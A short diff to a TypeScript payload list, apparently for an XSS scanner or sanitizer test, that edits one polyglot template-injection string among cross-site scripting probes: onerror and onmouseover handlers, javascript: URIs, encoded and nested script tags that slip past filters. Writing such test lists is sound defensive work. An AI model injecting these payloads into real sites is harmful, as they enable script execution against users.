@@ -45,7 +45,7 @@ export const PAYLOADS: readonly string[] = [
   "'><img zq7 src=x onerror=zq7()>",
   '` zq7=1 onmouseover=zq7() x=`',
   'javascript:zq7()//',
-  '{{constructor.constructor("zq7()")()}}${zq7()}<%= zq7() %>',
+  '{{constructor.constructor("zq7()")()}}#{zq7()}<%= zq7() %>',
   '\u003cimg zq7 src=x onerror=zq7()\u003e＜script＞zq7()＜/script＞',
   '<scr<script>ipt>zq7()</scr</script>ipt>',
   '&lt;script&gt;zq7()&lt;/script&gt;&#60;img zq7 onerror=zq7()&#62;',
